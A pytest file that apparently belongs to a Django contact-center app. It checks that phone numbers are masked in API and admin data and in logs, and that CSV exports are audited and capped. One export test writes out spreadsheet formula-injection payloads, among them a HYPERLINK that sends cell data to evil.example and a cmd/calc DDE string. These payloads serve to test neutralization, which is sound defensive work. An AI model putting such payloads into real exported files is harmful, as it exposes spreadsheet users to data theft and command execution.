"""Items 8, 9 and 10 of the security review: personal data.

8. Free-form data (transcripts, tool calls, analysis, dynamic variables, metadata, message bodies, raw provider
   payloads, audit data) has every phone number in it masked for roles without `interactions.view_pii`, in the API
   and the admin alike, by one function; dates, timestamps, versions, amounts and ids that only look numeric are left
   alone.
9. No full phone number reaches a log line, tracebacks included: an exception whose message echoes a number (as
   PostgreSQL echoes a failing row's JSON) raised inside a request and inside a task, and a request filtering by phone.
10. A CSV export with numbers in clear asks for a reason and is audited with it; exports are capped; every cell a
    spreadsheet would read as a formula is neutralized.
"""

import contextlib
import csv
import html
import io
import json
import re
import unicodedata
from pathlib import Path
from urllib.parse import unquote_plus

import pytest
import requests
from django.db import connection

from audit.models import AuditLog
from audit.services import audit_log_record
from contactcenter.common.actors import Actor
from interactions.models import CallDetail, Interaction, Message
from tests.factories import PASSWORD, InteractionFactory, OngoingInteractionFactory, UserFactory
from tests.support.fixtures import broker, celery_worker_factory, wait_for  # noqa: F401
from webhooks.models import InteractionEvent

from .conftest import AdminBrowser, make_api_key, totp_device, totp_now

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "providers"
# The customer's number in the provider fixtures, and its national part: every spelling of it contains these digits.
CUSTOMER = "+5215512345678"
NATIONAL = "5512345678"
MASKED = "+52*******5678"
# How the number shows masked, whichever spelling it was stored in (`+52 1 55…` or, made canonical, `+52 55…`).
MASKED_RE = re.compile(r"\+52\*{6,7}5678")
# The digits of the national part, in order, with at most three non-word characters between two of them.
_SPELLED = re.compile(r"[^\w*]{0,3}".join(NATIONAL))


def full_number_spellings(text: str) -> list[str]:
    """Every spelling of the customer's number found in `text` (with some context): E.164, digits only, grouped with
    spaces, dashes or dots, URL-encoded, HTML-escaped, or written with fullwidth digits."""
    forms = {text, html.unescape(text), unquote_plus(text)}
    forms |= {unicodedata.normalize("NFKC", form) for form in list(forms)}
    return sorted({form[max(m.start() - 80, 0) : m.end() + 40] for form in forms for m in _SPELLED.finditer(form)})


def assert_no_full_number(text: str) -> None:
    found = full_number_spellings(text)
    assert not found, "the full number appears in:\n" + "\n---\n".join(found)


def _fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _post_webhook(server, path: str, body: bytes, token: str, content_type: str = "application/json") -> str:
    response = requests.post(
        f"{server.url}{path}",
        data=body,
        headers={"Content-Type": content_type, "X-Webhook-Token": token},
        timeout=15,
    )
    assert response.status_code == 200, response.text
    return response.json()["event_id"]


# A WhatsApp message in which the customer wrote numbers (theirs, in three spellings) next to a date and a time.
WHATSAPP_BODY = "Mi número es +52 1 55 1234 5678, o ５５１２３４５６７８ (55-1234-5678); cita 2026-11-25 a las 10:30"


def _ingest_provider_data(server) -> tuple[Interaction, Interaction, InteractionEvent, InteractionEvent]:
    """A call (ElevenLabs post-call transcription), a WhatsApp message (BuilderBot) and an SMS status (Twilio), all
    through the real webhooks."""
    call_event_id = _post_webhook(
        server,
        "/webhooks/elevenlabs/call",
        _fixture("elevenlabs_post_call_transcription.json"),
        "test-elevenlabs-token",
    )
    whatsapp = json.loads(_fixture("builderbot_message_incoming.json"))
    whatsapp["data"]["body"] = WHATSAPP_BODY
    whatsapp_event_id = _post_webhook(
        server, "/webhooks/builderbot/whatsapp", json.dumps(whatsapp).encode(), "test-builderbot-token"
    )
    twilio_event_id = _post_webhook(
        server,
        "/webhooks/twilio/sms/status",
        _fixture("twilio_sms_status_delivered.txt").strip(),
        "test-twilio-token",
        content_type="application/x-www-form-urlencoded",
    )
    call = CallDetail.objects.select_related("interaction").get(conversation_id="conv_8901k5zvyjhmfg983brhmhkd98n6")
    whatsapp_interaction = InteractionEvent.objects.get(pk=whatsapp_event_id).interaction
    assert whatsapp_interaction is not None
    return (
        call.interaction,
        whatsapp_interaction,
        InteractionEvent.objects.get(pk=call_event_id),
        InteractionEvent.objects.get(pk=twilio_event_id),
    )


def _api_get(server, path: str, key: str) -> dict:
    response = requests.get(f"{server.url}{path}", headers={"Authorization": f"Api-Key {key}"}, timeout=15)
    assert response.status_code == 200, response.text
    return response.json()


# --- Item 8: masking covers free-form data ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "+5215512345678",
        "5215512345678",
        "+52 1 55 1234 5678",
        "+52 (55) 1234-5678",
        "55-1234-5678",
        "55.1234.5678",
        "llámame al 55 1234 5678 mañana",
        "＋５２１５５１２３４５６７８",
        "５５１２３４５６７８",
        "whatsapp:+5215512345678",
        "5215512345678@s.whatsapp.net",
        "phone=%2B5215512345678&page=2",
        '{"caller_id": "+5215512345678"}',
        "cust_5215512345678",
        "cel5215512345678",
        "2010-04-01 5215512345678",
    ],
)
def test_every_spelling_of_a_phone_number_in_free_text_is_masked(text):
    from contactcenter.common.masking import phones_mask

    masked = phones_mask(text)
    assert_no_full_number(masked)
    assert MASKED_RE.search(masked) or "+55" in masked, masked  # masked, not deleted: code and last four stay
    assert phones_mask(masked) == masked  # masking twice changes nothing


def test_a_url_encoded_number_is_masked_in_place():
    from contactcenter.common.masking import phones_mask

    assert (
        phones_mask("/api/interactions?phone=%2B5215512345678&page=2")
        == "/api/interactions?phone=+52*******5678&page=2"
    )


@pytest.mark.parametrize(
    "text",
    [
        "2010-04-01",
        "/2010-04-01/Accounts/AC00000000000000000000000000000000/Messages.json",
        "2026-11-25T12:00:00Z",
        "2026-07-25T17:24:08.000000+00:00",
        "Sat, 25 Jul 2026 17:20:45 +0000",
        "25/11/2026 10:30",
        "25.11.2026",
        "version 4.2.0, build 10.15.7",
        "total 12345678.90 MXN, 1.234.567,89 EUR",
        "19.4326077, -99.133208",
        "f83ff81e-d331-4c84-97fe-123456788086",
        "12345678-1234-1234-1234-123456789012",
        "SM2c1e4f5a6b7c8d9e0f1a2b3c4d5e6f7a MG11111111111111111111111111111111 CA9f3c2b1a0e8d7c6b5a4f3e2d1c0b9a8f",
        "conv_8901k5zvyjhmfg983brhmhkd98n6 BLK-20260725-0042",
        "from 192.168.100.200 in 12.5 ms",
        "card ending 4821, code 487",
    ],
)
def test_values_that_only_look_numeric_are_left_alone(text):
    from contactcenter.common.masking import phones_mask

    assert phones_mask(text) == text


def test_json_is_masked_by_key_and_by_content():
    from contactcenter.common.masking import phones_mask

    document = {
        "From": 5215512345678,  # a phone key: masked even as a JSON number
        "caller": {"value": "5512345678"},  # under a phone key, generic children too
        "system__caller_id": "+5215512345678",
        "event_timestamp": 1785000260,  # a number under a non-phone key: kept
        "RawDlrDoneDate": "2607251721",  # digits under a time key: kept
        "ApiVersion": "2010-04-01",
        "SequenceNumber": "2",
        "notes": ["llamar al 55 1234 5678", {"text": "saldo 1234.56"}],
        "range": {"from": "2026-11-01", "to": "2026-11-30"},
    }
    masked = phones_mask(document)
    assert_no_full_number(json.dumps(masked, ensure_ascii=False))
    assert masked["From"] == MASKED and masked["system__caller_id"] == MASKED
    assert masked["event_timestamp"] == 1785000260
    assert masked["RawDlrDoneDate"] == "2607251721"
    assert masked["ApiVersion"] == "2010-04-01"
    assert masked["SequenceNumber"] == "2"
    assert masked["notes"][1] == {"text": "saldo 1234.56"}
    assert masked["range"] == {"from": "2026-11-01", "to": "2026-11-30"}
    assert document["From"] == 5215512345678  # the input is not changed


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.slow
def test_the_api_masks_every_number_in_free_form_data_for_roles_without_view_pii(prod_server):
    server = prod_server()
    call, whatsapp, _call_event, _twilio_event = _ingest_provider_data(server)
    auditor, supervisor = make_api_key("auditor"), make_api_key("supervisor")

    masked_call = _api_get(server, f"/api/interactions/{call.pk}", auditor)
    assert_no_full_number(json.dumps(masked_call, ensure_ascii=False))
    tool_call = masked_call["call_detail"]["transcript"][2]["tool_calls"][0]
    assert MASKED in tool_call["params"]
    assert MASKED_RE.fullmatch(masked_call["call_detail"]["customer_number"])
    masked_whatsapp = _api_get(server, f"/api/interactions/{whatsapp.pk}", auditor)
    assert_no_full_number(json.dumps(masked_whatsapp, ensure_ascii=False))
    body = masked_whatsapp["messages"][0]["body"]
    assert body.startswith("Mi número es +52*******5678, o ") and body.endswith("cita 2026-11-25 a las 10:30")
    listing = _api_get(server, "/api/interactions?page_size=50", auditor)
    assert_no_full_number(json.dumps(listing, ensure_ascii=False))

    # The same answers in clear for a caller holding view_pii (each such read is audited, as before).
    clear_call = _api_get(server, f"/api/interactions/{call.pk}", supervisor)
    assert CUSTOMER in clear_call["call_detail"]["transcript"][2]["tool_calls"][0]["params"]
    clear_whatsapp = _api_get(server, f"/api/interactions/{whatsapp.pk}", supervisor)
    assert clear_whatsapp["messages"][0]["body"] == WHATSAPP_BODY


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.slow
def test_the_admin_masks_the_same_data_and_leaves_dates_and_ids_alone(prod_server):
    server = prod_server()
    call, whatsapp, call_event, twilio_event = _ingest_provider_data(server)
    Interaction.objects.filter(pk=call.pk).update(metadata={"callback": "+52 1 55 1234 5678", "since": "2026-11-25"})
    record = audit_log_record(
        actor=Actor.system("test"),
        action="interaction.note",
        target_type="interaction",
        target_id=call.pk,
        data={"reason": "el cliente pidió que le llamen al 55 1234 5678", "at": "2026-11-25T12:00:00Z"},
    )
    auditor = UserFactory(username="aud", roles=["auditor"], staff=True)
    browser = AdminBrowser(server.url)
    assert browser.login("aud", PASSWORD, totp_now(totp_device(auditor))).status_code == 302

    def page(path: str) -> str:
        response = browser.session.get(server.url + path, timeout=15)
        assert response.status_code == 200, path
        return html.unescape(response.text)

    call_page = page(f"/admin/interactions/interaction/{call.pk}/change/")
    assert_no_full_number(call_page)
    assert MASKED_RE.search(call_page)
    # The raw payload keeps its dates, timestamps, ids and references as they were.
    for kept in (
        "2026-07-25T17:24:08.000000+00:00",
        "1785000260",
        "BLK-20260725-0042",
        "CA9f3c2b1a0e8d7c6b5a4f3e2d1c0b9a8f",
    ):
        assert kept in call_page, kept
    whatsapp_page = page(f"/admin/interactions/interaction/{whatsapp.pk}/change/")
    assert_no_full_number(whatsapp_page)
    assert "cita 2026-11-25 a las 10:30" in whatsapp_page
    call_event_page = page(f"/admin/webhooks/interactionevent/{call_event.pk}/change/")
    assert_no_full_number(call_event_page)
    assert "2026-07-25T17:24:08.000000+00:00" in call_event_page
    twilio_page = page(f"/admin/webhooks/interactionevent/{twilio_event.pk}/change/")
    assert_no_full_number(twilio_page)
    assert "2010-04-01" in twilio_page and "+20**0401" not in twilio_page
    assert "2607251721" in twilio_page  # RawDlrDoneDate: a date, not a number
    audit_page = page(f"/admin/audit/auditlog/{record.pk}/change/")
    assert_no_full_number(audit_page)
    assert "2026-11-25T12:00:00Z" in audit_page


# --- Item 9: no personal data in any log line -----------------------------------------------------------------------


@contextlib.contextmanager
def postgres_echoes_the_failing_row(table: str, event: str):
    """A trigger that makes PostgreSQL refuse every `event` (INSERT or UPDATE) on `table` with an error quoting the
    row as JSON, as a constraint error quotes the failing row: a real database exception carrying the number."""
    with connection.cursor() as cursor:
        cursor.execute(
            """
            CREATE OR REPLACE FUNCTION cc_test_echo_failing_row() RETURNS trigger AS $$
            BEGIN
                RAISE EXCEPTION 'new row for relation "%" violates check constraint "cc_test"', TG_TABLE_NAME
                    USING ERRCODE = 'check_violation', DETAIL = 'Failing row contains ' || row_to_json(NEW)::text;
            END $$ LANGUAGE plpgsql
            """
        )
        cursor.execute(
            f"CREATE TRIGGER cc_test_echo_failing_row BEFORE {event} ON {table} "
            "FOR EACH ROW EXECUTE FUNCTION cc_test_echo_failing_row()"
        )
    try:
        yield
    finally:
        with connection.cursor() as cursor:
            cursor.execute(f"DROP TRIGGER IF EXISTS cc_test_echo_failing_row ON {table}")
            cursor.execute("DROP FUNCTION IF EXISTS cc_test_echo_failing_row()")


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.slow
def test_no_log_line_of_a_failing_request_or_a_phone_filter_carries_a_full_number(prod_server):
    server = prod_server()
    interaction = InteractionFactory(channel="sms", customer_phone=CUSTOMER)
    key = make_api_key("supervisor")
    headers = {"Authorization": f"Api-Key {key}"}
    mark = server.log_mark()
    with postgres_echoes_the_failing_row("interactions_message", "INSERT"):
        failed = requests.post(
            f"{server.url}/api/interactions/{interaction.pk}/messages",
            json={"body": f"Le llamaremos al {CUSTOMER}"},
            headers=headers,
            timeout=15,
        )
    assert failed.status_code == 500
    filtered = requests.get(f"{server.url}/api/interactions?phone=%2B5215512345678", headers=headers, timeout=15)
    assert filtered.status_code == 200
    # The same number spelled other ways a client may send it: digits only, grouped, in fullwidth digits.
    for spelling in ("5215512345678", "+52 1 55 1234 5678", "＋５２１５５１２３４５６７８"):
        response = requests.get(
            f"{server.url}/api/interactions", params={"phone": spelling}, headers=headers, timeout=15
        )
        assert response.status_code in (200, 400), response.text

    logged = server.log_text_since(mark)
    # The exception and its traceback were logged (so the test proves something), the number masked in them.
    assert "check_violation" in logged or "violates check constraint" in logged, logged[-3000:]
    assert "Traceback" in logged
    assert MASKED_RE.search(logged)
    assert "?phone=" in logged
    assert_no_full_number(logged)


@pytest.mark.postgres
@pytest.mark.redis
@pytest.mark.slow
def test_no_log_line_of_a_failing_task_carries_a_full_number(celery_worker_factory, broker):  # noqa: F811
    from interactions.tasks import message_deliver_task

    interaction = InteractionFactory(channel="sms", customer_phone=CUSTOMER)
    message = Message.objects.create(
        interaction=interaction,
        channel="sms",
        direction="outbound",
        status="queued",
        provider="twilio",
        to_phone=CUSTOMER,
        body="Su folio es 2026-11-25/0042",
    )
    worker = celery_worker_factory()
    with postgres_echoes_the_failing_row("interactions_message", "UPDATE"):
        message_deliver_task.delay(str(message.pk))
        logged = wait_for(
            lambda: (text := worker.log_text()) and "raised unexpected" in text and text,
            timeout=60,
            what="the task's failure in the worker log",
        )
    assert "Traceback" in logged and "violates check constraint" in logged
    assert MASKED_RE.search(logged)
    assert_no_full_number(logged)


# --- Item 10: exports are deliberate ---------------------------------------------------------------------------------

EXPORT_URL = "/admin/interactions/interaction/"


def _export(client, interactions, **data):
    return client.post(
        EXPORT_URL,
        {"action": "export_csv", "_selected_action": [str(i.pk) for i in interactions], "index": "0", **data},
    )


def _csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv"), response.content[:500]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def admin_client_as(client, db):
    from tests.backoffice.conftest import login_verified

    return lambda user: login_verified(client, user)


@pytest.mark.postgres
@pytest.mark.django_db
def test_an_export_with_numbers_in_clear_asks_for_a_reason_and_audits_it(admin_client_as):
    from tests.backoffice.conftest import create_staff

    supervisor = create_staff("sup", "supervisor")
    client = admin_client_as(supervisor)
    interactions = [
        OngoingInteractionFactory(customer_phone=CUSTOMER),
        OngoingInteractionFactory(customer_phone="+14155550100"),
    ]

    form = _export(client, interactions)
    assert form.status_code == 200 and form["Content-Type"].startswith("text/html")
    assert b'name="reason"' in form.content
    assert_no_full_number(form.content.decode())
    assert not AuditLog.objects.filter(action="interactions.exported").exists()

    too_short = _export(client, interactions, reason="x", apply="1")
    assert too_short.status_code == 200 and too_short["Content-Type"].startswith("text/html")
    assert not AuditLog.objects.filter(action="interactions.exported").exists()

    reason = "Ticket CC-1234: regulator request about 55 1234 5678"
    response = _export(client, interactions, reason=reason, apply="1")
    assert "no-store" in response["Cache-Control"]
    rows = _csv_rows(response)
    stored = Interaction.objects.get(pk=interactions[0].pk).customer_phone  # as stored (canonical spelling)
    assert "'" + stored in [row[4] for row in rows[1:]]
    record = AuditLog.objects.get(action="interactions.exported")
    assert record.actor_id == str(supervisor.pk)
    # The reason is kept, with any number in it masked: an audit record never holds a number in clear.
    assert record.data["reason"] == "Ticket CC-1234: regulator request about +55****5678"
    assert record.data["phones"] == "clear"
    assert record.data["count"] == 2
    assert sorted(record.data["ids"]) == sorted(str(i.pk) for i in interactions)
    assert record.data["capped"] is False


@pytest.mark.postgres
@pytest.mark.django_db
def test_a_masked_export_needs_no_reason_but_is_audited_with_its_filters(admin_client_as):
    from tests.backoffice.conftest import create_staff

    auditor = create_staff("aud", "auditor")
    interaction = OngoingInteractionFactory(customer_phone=CUSTOMER, status="open")
    response = admin_client_as(auditor).post(
        EXPORT_URL + "?status__exact=open",
        {"action": "export_csv", "_selected_action": [str(interaction.pk)], "index": "0", "select_across": "1"},
    )
    rows = _csv_rows(response)
    assert rows[1][4][0] == "'" and MASKED_RE.fullmatch(rows[1][4][1:])
    record = AuditLog.objects.get(action="interactions.exported")
    assert record.data["phones"] == "masked" and "reason" not in record.data
    assert record.data["select_across"] is True and record.data["filters"] == {"status__exact": "open"}


@pytest.mark.postgres
@pytest.mark.django_db
def test_every_export_cell_a_spreadsheet_would_read_as_a_formula_is_neutralized(admin_client_as):
    from django.contrib.auth import get_user_model

    from tests.backoffice.conftest import create_staff

    auditor = create_staff("aud", "auditor")
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
    interactions = [OngoingInteractionFactory(customer_phone=CUSTOMER, external_id=payload) for payload in payloads]
    agent = get_user_model().objects.create_user(username="\tagent", password="x")
    interactions.append(OngoingInteractionFactory(customer_phone=CUSTOMER, external_id="\rline", assigned_agent=agent))
    rows = _csv_rows(_export(admin_client_as(auditor), interactions))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    external_ids = {row[6] for row in rows[1:]}
    assert external_ids == {"'" + payload for payload in [*payloads, "\rline"]}
    assert "'\tagent" in {row[7] for row in rows[1:]}


@pytest.mark.postgres
@pytest.mark.django_db
def test_an_export_over_the_cap_is_cut_and_says_so(admin_client_as, settings):
    from tests.backoffice.conftest import create_staff

    settings.EXPORT_MAX_ROWS = 2
    auditor = create_staff("aud", "auditor")
    client = admin_client_as(auditor)
    interactions = [OngoingInteractionFactory(customer_phone=CUSTOMER) for _ in range(3)]

    notice = _export(client, interactions)
    assert notice.status_code == 200 and notice["Content-Type"].startswith("text/html")
    assert "only the newest 2 will be exported" in notice.content.decode()
    rows = _csv_rows(_export(client, interactions, apply="1"))
    assert len(rows) == 1 + 2
    record = AuditLog.objects.get(action="interactions.exported")
    assert record.data["capped"] is True and record.data["count"] == 2 and record.data["max_rows"] == 2


def test_gunicorns_own_log_lines_are_json_through_the_scrub_filter(prod_server):
    # Gunicorn writes its own lines (workers booting, a request that failed outside Django, with its URI): they use
    # the same formatter and filter as every other line (gunicorn.conf.py).
    server = prod_server()
    gunicorn_lines = [record for record in server.log_records() if str(record.get("logger", "")).startswith("gunicorn")]
    assert gunicorn_lines, server.log_text()[-2000:]
    plain = [line for line in server.log_lines() if line.strip() and not line.lstrip().startswith("{")]
    assert plain == []
